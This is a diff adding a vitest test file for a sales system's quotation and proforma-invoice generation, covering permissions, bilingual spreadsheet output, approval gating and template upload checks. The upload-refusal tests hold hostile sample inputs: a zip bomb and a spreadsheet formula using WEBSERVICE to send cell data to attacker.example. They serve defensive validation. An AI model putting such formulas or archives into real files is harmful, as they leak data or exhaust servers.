@@ -1,0 +1,315 @@
+// Quotations and proforma invoices (issue 15 §3): templates checked on upload (each refusal with its
+// cell, nothing saved), documents generated only from approved quotes and opened with ExcelJS cell
+// by cell in both languages, the customer's documents list, and a PDF printed by real Chromium.
+import ExcelJS from 'exceljs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { RuleSetDocument } from '../schemas/rule-set.js';
+import { createHarness, type Harness } from './support/harness.js';
+import { customerInCosting } from './support/customers.js';
+import { buildZip } from './support/xlsx-zip.js';
+
+let h: Harness;
+let rep: { id: string; token: string };
+let manager: { id: string; token: string };
+let otherRep: { id: string; token: string };
+
+const approvalRules = {
+  decision: 'approval',
+  hitPolicy: 'collect',
+  rules: [
+    { name: 'discount over 10%', conditions: { all: [{ fact: 'quote', path: '$.discountPct', operator: 'greaterThan', value: 10 }] }, event: { type: 'require_approval', params: { level: 1, role: 'manager', timeout: '2h', reason: 'discount' } } },
+    { name: 'big quote', conditions: { all: [{ fact: 'quote', path: '$.amountUsd', operator: 'greaterThanInclusive', value: 50_000 }] }, event: { type: 'require_approval', params: { level: 2, role: 'admin', timeout: '2h', reason: 'big' } } },
+  ],
+} as unknown as RuleSetDocument;
+
+const PROFILE = {
+  name: 'Ningbo Sunrise Solar Co., Ltd.',
+  address: 'No. 8 Harbour Road, Ningbo, China',
+  phone: '+86 574 8888 0000',
+  email: 'sales@sunrise.example',
+  bankName: 'Bank of China, Ningbo Branch',
+  bankAccount: '3581 0000 1234 5678',
+  bankSwift: 'BKCHCNBJ92A',
+  beneficiary: 'Ningbo Sunrise Solar Co., Ltd.',
+  signatory: 'Li Wei',
+  signatoryTitle: 'Sales Director',
+  defaultIncoterms: 'FOB Ningbo',
+  defaultPaymentTerms: '30% T/T in advance, 70% against B/L copy',
+};
+
+const ITEMS = [
+  { sku: 'INV-5K', description: 'Solar inverter 5 kW', quantity: 10, unitPrice: 4_000 },
+  { sku: 'PNL-450', description: 'Mono panel 450 W', quantity: 200, unitPrice: 105.5 },
+];
+const TOTAL = 10 * 4_000 + 200 * 105.5;
+
+async function ok(token: string, method: string, url: string, body?: unknown) {
+  const res = await h.call(token, method, url, body);
+  if (res.status >= 300) throw new Error(`${method} ${url}: ${res.status} ${JSON.stringify(res.body)}`);
+  return res.body;
+}
+
+/** A customer of `rep` with a quote: approved at both levels (with comments), or still pending. */
+async function customerWithQuote(approve: boolean) {
+  const id = await customerInCosting(h, rep);
+  const quote = await ok(rep.token, 'POST', `/customers/${id}/quotes`, { currency: 'USD', discountPct: 12, marginPct: 22, items: ITEMS, validUntil: '2027-01-31', note: 'Prices include export packing.' });
+  const quoteId = quote.quote.id as string;
+  if (approve) {
+    await ok(manager.token, 'POST', `/approvals/${quoteId}/approve`, { comment: 'margin fine' });
+    await ok(h.adminToken, 'POST', `/approvals/${quoteId}/approve`, { comment: 'ok for Germany' });
+  }
+  return { customerId: id, quoteId };
+}
+
+async function upload(file: Buffer, fields: Record<string, string>, token = h.adminToken) {
+  const form = new FormData();
+  form.set('file', new Blob([new Uint8Array(file)]), 'template.xlsx');
+  for (const [k, v] of Object.entries(fields)) form.set(k, v);
+  const res = await h.app.request('/document-templates', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
+  return { status: res.status, body: (await res.json()) as any };
+}
+
+async function download(token: string, url: string) {
+  const res = await h.app.request(url, { headers: { authorization: `Bearer ${token}` } });
+  return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), bytes: Buffer.from(await res.arrayBuffer()) };
+}
+
+async function open(bytes: Buffer) {
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(bytes as unknown as ArrayBuffer);
+  return book.worksheets[0]!;
+}
+
+/** A template drawn with ExcelJS: the given cells on one sheet (a formula when the value starts with "="). */
+async function template(cells: Record<string, string>, extraSheet = false) {
+  const book = new ExcelJS.Workbook();
+  const sheet = book.addWorksheet('Quote');
+  for (const [ref, v] of Object.entries(cells)) sheet.getCell(ref).value = v.startsWith('=') ? { formula: v.slice(1) } : v;
+  if (extraSheet) book.addWorksheet('Prices').getCell('A1').value = 5;
+  return Buffer.from(await book.xlsx.writeBuffer());
+}
+
+const VALID = {
+  A1: '客户：${customer.name}',
+  A2: '${quote.number}',
+  B2: '${quote.version}',
+  A4: '${table:items.product}',
+  B4: '${table:items.quantity}',
+  C4: '${table:items.unitPrice}',
+  D4: '${table:items.amount}',
+  D5: '${totals.total}',
+  A7: '${approvalSummary}',
+};
+
+const templateCount = async () => Number((await h.db.selectFrom('document_templates').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow()).n);
+const documentCount = async () => Number((await h.db.selectFrom('documents').select((eb) => eb.fn.countAll<string>().as('n')).executeTakeFirstOrThrow()).n);
+
+beforeAll(async () => {
+  h = await createHarness();
+  await h.publishRuleSet(approvalRules);
+  for (const team of ['docs-a', 'docs-b']) await ok(h.adminToken, 'POST', '/teams', { id: team, name: team });
+  manager = await h.createRep({ id: 'docs-manager', role: 'manager', teamId: 'docs-a' });
+  rep = await h.createRep({ id: 'docs-rep', teamId: 'docs-a' });
+  otherRep = await h.createRep({ id: 'docs-other', teamId: 'docs-b' });
+  await h.db.updateTable('teams').set({ manager_id: manager.id }).where('id', '=', 'docs-a').execute();
+  await h.db.updateTable('reps').set({ name: 'Wang Fang' }).where('id', '=', manager.id).execute();
+}, 300_000);
+afterAll(() => h?.close());
+
+describe('the company profile', () => {
+  it('is edited by admins only and read by everyone', async () => {
+    expect((await h.call(rep.token, 'PUT', '/company-profile', PROFILE)).status).toBe(403);
+    const saved = await ok(h.adminToken, 'PUT', '/company-profile', PROFILE);
+    expect(saved).toMatchObject({ profile: PROFILE, updatedBy: 'admin' });
+    expect((await ok(rep.token, 'GET', '/company-profile')).profile).toEqual(PROFILE);
+    expect((await h.call(h.adminToken, 'PUT', '/company-profile', { ...PROFILE, iban: 'x' })).status).toBe(400);
+  });
+});
+
+describe('a quotation from an approved quote', () => {
+  it('is generated with the built-in template and checked cell by cell, in English and Chinese', async () => {
+    const { customerId, quoteId } = await customerWithQuote(true);
+    const customer = await h.customerRow(customerId);
+    for (const language of ['en', 'zh'] as const) {
+      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language });
+      expect(doc).toMatchObject({ customerId, quoteId, kind: 'quotation', language, templateId: `builtin-quotation-${language}`, quoteVersion: 1, generatedBy: rep.id });
+      expect(doc.approvals.map((a: { level: number; approver: string; comment: string }) => [a.level, a.approver, a.comment])).toEqual([
+        [1, 'Wang Fang', 'margin fine'],
+        [2, 'Admin', 'ok for Germany'],
+      ]);
+      const file = await download(rep.token, `/documents/${doc.id}/file`);
+      expect(file.status).toBe(200);
+      expect(file.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+      expect(file.disposition).toContain(`${doc.quoteNumber}-v1-quotation-${language}.xlsx`);
+      const s = await open(file.bytes);
+      const today = new Date().toISOString().slice(0, 10);
+      expect(s.getCell('A1').value).toBe(PROFILE.name);
+      expect(s.getCell('A5').value).toBe(language === 'en' ? 'QUOTATION' : '报价单');
+      expect(s.getCell('B7').value).toBe(customer.company_name);
+      expect(s.getCell('F7').value).toBe(doc.quoteNumber);
+      expect(s.getCell('F8').value).toBe(1);
+      expect(s.getCell('F9').value).toBe(today);
+      expect(s.getCell('F10').value).toBe('2027-01-31');
+      expect(s.getCell('A12').value).toBe(language === 'en' ? 'No.' : '序号');
+      // One row per item: number, SKU, product, quantity, unit, unit price, amount.
+      expect([1, 2, 3, 4, 5, 6, 7].map((c) => s.getRow(13).getCell(c).value)).toEqual([1, 'INV-5K', 'Solar inverter 5 kW', 10, language === 'en' ? 'pcs' : '件', 4000, 40000]);
+      expect([1, 2, 3, 4, 5, 6, 7].map((c) => s.getRow(14).getCell(c).value)).toEqual([2, 'PNL-450', 'Mono panel 450 W', 200, language === 'en' ? 'pcs' : '件', 105.5, 21100]);
+      expect(s.getCell('F15').value).toBe(language === 'en' ? 'Total (USD)' : '合计（USD）');
+      expect(s.getCell('G15').value).toBe(TOTAL);
+      expect(s.getCell('G15').numFmt).toBe('#,##0.00');
+      expect(s.getCell('C17').value).toBe('FOB Ningbo');
+      expect(s.getCell('C18').value).toBe(PROFILE.defaultPaymentTerms);
+      expect(s.getCell('C19').value).toBe('Prices include export packing.');
+      expect(s.getCell('A22').value).toBe('Li Wei  Sales Director');
+      expect(String(s.getCell('C24').value)).toMatch(language === 'en' ? /^L1 Wang Fang \d{4}-\d\d-\d\d; L2 Admin / : /^第1级 Wang Fang \d{4}-\d\d-\d\d; 第2级 Admin /);
+      expect([1, 2, 4, 6].map((c) => s.getRow(26).getCell(c).value)).toEqual([1, 'Wang Fang', today, 'margin fine']);
+      expect([1, 2, 4, 6].map((c) => s.getRow(27).getCell(c).value)).toEqual([2, 'Admin', today, 'ok for Germany']);
+    }
+  });
+
+  it('is a proforma invoice with the bank details, and records the terms given', async () => {
+    const { quoteId } = await customerWithQuote(true);
+    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en', incoterms: 'CIF Hamburg' });
+    const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
+    expect(s.getCell('A5').value).toBe('PROFORMA INVOICE');
+    expect(s.getCell('C17').value).toBe('CIF Hamburg');
+    expect(s.getCell('A21').value).toBe('Bank details');
+    expect(s.getCell('C23').value).toBe(PROFILE.bankName);
+    expect(s.getCell('C25').value).toBe(PROFILE.bankAccount);
+    expect(s.getCell('C26').value).toBe(PROFILE.bankSwift);
+    const stored = await h.db.selectFrom('documents').select(['data', 'template_sha256', 'sha256']).where('id', '=', doc.id).executeTakeFirstOrThrow();
+    expect(stored.data).toMatchObject({ incoterms: 'CIF Hamburg', quote: { version: 1 }, totals: { total: TOTAL } });
+    expect(stored.sha256).toBe(doc.sha256);
+  });
+
+  it('is refused while the quote awaits approval, and for another team’s rep', async () => {
+    const { customerId, quoteId } = await customerWithQuote(false);
+    const before = await documentCount();
+    const pending = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
+    expect(pending.status).toBe(409);
+    expect(pending.body.error).toMatchObject({ code: 'QUOTE_PENDING', details: { quoteId, status: 'pending_approval' } });
+    expect(pending.body.error.message).toContain('awaiting approval');
+    await ok(manager.token, 'POST', `/approvals/${quoteId}/reject`, { comment: 'margin too thin' });
+    const rejected = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
+    expect(rejected.status).toBe(409);
+    expect(rejected.body.error.details.status).toBe('rejected');
+    const outsider = await h.call(otherRep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation' });
+    expect(outsider.status).toBe(403);
+    expect((await h.call(otherRep.token, 'GET', `/customers/${customerId}/documents`)).status).toBe(403);
+    expect(await documentCount()).toBe(before);
+  });
+
+  it("are listed on the customer, newest first, with who generated them and when; another rep can't download them", async () => {
+    const { customerId, quoteId } = await customerWithQuote(true);
+    const first = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'en' });
+    const second = await ok(manager.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'zh' });
+    const list = await ok(rep.token, 'GET', `/customers/${customerId}/documents`);
+    expect(list.items.map((d: { id: string; generatedBy: string; generatedByName: string; kind: string }) => [d.id, d.generatedBy, d.generatedByName, d.kind])).toEqual([
+      [second.id, manager.id, 'Wang Fang', 'proforma_invoice'],
+      [first.id, rep.id, `Rep ${rep.id}`, 'quotation'],
+    ]);
+    expect(Date.parse(list.items[0].generatedAt)).toBeGreaterThanOrEqual(Date.parse(list.items[1].generatedAt));
+    expect((await download(otherRep.token, `/documents/${first.id}/file`)).status).toBe(403);
+  });
+
+  it('prints as a PDF with Chromium, and says so when there is none', async () => {
+    const { quoteId } = await customerWithQuote(true);
+    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
+    const pdf = await download(rep.token, `/documents/${doc.id}/file?format=pdf`);
+    expect(pdf.status).toBe(200);
+    expect(pdf.type).toBe('application/pdf');
+    expect(pdf.bytes.subarray(0, 4).toString()).toBe('%PDF');
+    const without = h.newApp({ chromiumPath: '/nonexistent/chromium' });
+    const res = await without.request(`/documents/${doc.id}/file?format=pdf`, { headers: { authorization: `Bearer ${rep.token}` } });
+    expect(res.status).toBe(503);
+    expect(((await res.json()) as any).error.message).toContain('PDF_CHROMIUM_PATH');
+  }, 60_000);
+});
+
+describe('uploaded templates', () => {
+  it('are used for their kind and language until deactivated', async () => {
+    const saved = await upload(await template(VALID), { kind: 'quotation', language: 'zh', name: '我们的报价单' });
+    expect(saved.status).toBe(201);
+    expect(saved.body).toMatchObject({ kind: 'quotation', language: 'zh', name: '我们的报价单', active: true, builtIn: false, sheets: ['Quote'] });
+    expect(saved.body.placeholders).toContain('table:items.product');
+    const listed = await ok(rep.token, 'GET', '/document-templates?kind=quotation&language=zh');
+    expect(listed.items.map((t: { id: string }) => t.id)).toEqual([saved.body.id, 'builtin-quotation-zh']);
+    const { customerId, quoteId } = await customerWithQuote(true);
+    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
+    expect(doc.templateId).toBe(saved.body.id);
+    const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
+    expect(s.getCell('A1').value).toBe(`客户：${(await h.customerRow(customerId)).company_name}`);
+    expect(s.getCell('B2').value).toBe(1);
+    expect([s.getCell('A4').value, s.getCell('B4').value, s.getCell('C4').value, s.getCell('D4').value]).toEqual(['Solar inverter 5 kW', 10, 4000, 40000]);
+    expect([s.getCell('A5').value, s.getCell('B5').value, s.getCell('C5').value, s.getCell('D5').value]).toEqual(['Mono panel 450 W', 200, 105.5, 21100]);
+    expect(s.getCell('D6').value).toBe(TOTAL);
+    expect(String(s.getCell('A8').value)).toMatch(/^第1级 Wang Fang/);
+    expect((await download(rep.token, `/document-templates/${saved.body.id}/file`)).bytes.subarray(0, 2).toString()).toBe('PK');
+
+    expect((await h.call(rep.token, 'DELETE', `/document-templates/${saved.body.id}`)).status).toBe(403);
+    expect((await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`)).active).toBe(false);
+    expect((await h.call(h.adminToken, 'DELETE', '/document-templates/builtin-quotation-zh')).status).toBe(409);
+    const after = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'zh' });
+    expect(after.templateId).toBe('builtin-quotation-zh');
+    const refused = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id });
+    expect(refused.status).toBe(409);
+    // The document made from it still downloads.
+    expect((await download(rep.token, `/documents/${doc.id}/file`)).status).toBe(200);
+  });
+
+  it('are uploaded by admins only', async () => {
+    const before = await templateCount();
+    expect((await upload(await template(VALID), { kind: 'quotation', language: 'en', name: 'x' }, rep.token)).status).toBe(403);
+    expect(await templateCount()).toBe(before);
+  });
+
+  const refusals: [string, () => Promise<Buffer>, Record<string, string>, number, RegExp][] = [
+    ['not a zip at all', async () => Buffer.from('Company,Contact\nAcme,Ann\n'), {}, 400, /not an \.xlsx workbook/],
+    ['a zip that is not a workbook', () => buildZip([{ name: 'readme.txt', chunks: () => [Buffer.from('hello')] }]), {}, 400, /no xl\/workbook\.xml/],
+    ['larger than 2 MiB', async () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(2 * 1024 * 1024)]), {}, 413, /larger than 2 MiB/],
+    [
+      'a zip whose directory lies about what it unpacks to',
+      () => {
+        // A sheet of 64 MiB that declares 1 KiB: inflating it unbounded is what a zip bomb wants.
+        const zeros = Buffer.alloc(1024 * 1024);
+        return buildZip([
+          { name: '[Content_Types].xml', chunks: () => [Buffer.from('<Types/>')] },
+          { name: 'xl/workbook.xml', chunks: () => [Buffer.from('<workbook/>')] },
+          { name: 'xl/worksheets/sheet1.xml', chunks: () => Array.from({ length: 64 }, () => zeros), declaredSize: 1024 },
+        ]);
+      },
+      {},
+      400,
+      /unpacks to more than the workbook declares/,
+    ],
+    ['unknown placeholders', () => template({ ...VALID, B9: '${customer.nmae}', C9: '${table:items.colour}', D9: '${image:logo}' }), { B9: 'unknown placeholder ${customer.nmae}', C9: 'unknown placeholder ${table:items.colour}', D9: 'unknown placeholder ${image:logo}' }, 400, /unknown placeholder/],
+    [
+      'formulas that reach outside the sheet',
+      () => template({ ...VALID, E1: '=Prices!A1*2', E2: '=[1]Rates!B2', E3: '=WEBSERVICE("http://attacker.example/?"&A1)', E4: '=HYPERLINK("http://x.example","x")', E5: '=INDIRECT("Prices!A1")', E6: '=SUM(D4:D4)' }, true),
+      { E1: 'another sheet', E2: 'another workbook', E3: 'uses WEBSERVICE', E4: 'uses HYPERLINK', E5: 'INDIRECT' },
+      400,
+      /problems/,
+    ],
+    ['a missing required placeholder', () => template({ ...VALID, D5: 'no total here' }), { '': 'missing the required placeholder ${totals.total}' }, 400, /missing the required placeholder/],
+  ];
+  for (const [name, make, cells, status, message] of refusals) {
+    it(`are refused, with nothing saved: ${name}`, async () => {
+      const before = await templateCount();
+      const res = await upload(await make(), { kind: 'quotation', language: 'en', name });
+      expect(res.status, JSON.stringify(res.body)).toBe(status);
+      expect(res.body.error.message).toMatch(message);
+      if (status === 400) expect(res.body.error.details.issues.every((i: { pointer: string }) => i.pointer === '/file')).toBe(true);
+      for (const [cell, reason] of Object.entries(cells)) {
+        expect(res.body.error.details.problems, `${cell}: ${reason}`).toContainEqual(expect.objectContaining({ ...(cell ? { sheet: 'Quote', cell } : {}), reason: expect.stringContaining(reason) }));
+      }
+      if (name.startsWith('formulas')) expect(res.body.error.details.problems.map((p: { cell: string }) => p.cell)).not.toContain('E6');
+      expect(await templateCount()).toBe(before);
+    });
+  }
+
+  it('a proforma invoice template must print the bank account', async () => {
+    const res = await upload(await template(VALID), { kind: 'proforma_invoice', language: 'en', name: 'PI' });
+    expect(res.status).toBe(400);
+    expect(res.body.error.details.problems).toContainEqual({ reason: 'missing the required placeholder ${company.bankAccount}' });
+  });
+});
